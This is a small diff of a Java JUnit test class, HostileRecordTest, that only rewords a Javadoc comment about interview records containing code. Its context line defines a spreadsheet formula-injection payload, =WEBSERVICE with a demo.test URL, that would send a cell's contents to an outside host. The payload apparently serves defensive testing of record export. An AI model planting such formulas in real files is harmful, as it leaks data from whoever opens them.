@@ -39,7 +39,7 @@ import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 import org.springframework.context.annotation.AnnotationConfigApplicationContext;
 
-/** Records of an interview in which everybody wrote what a program might take for more than text. */
+/** Writes records of an interview whose texts contain code for various programs. */
 class HostileRecordTest {
 
     private static final String FORMULA = "=WEBSERVICE(\"http://demo.test/\"&A1)";
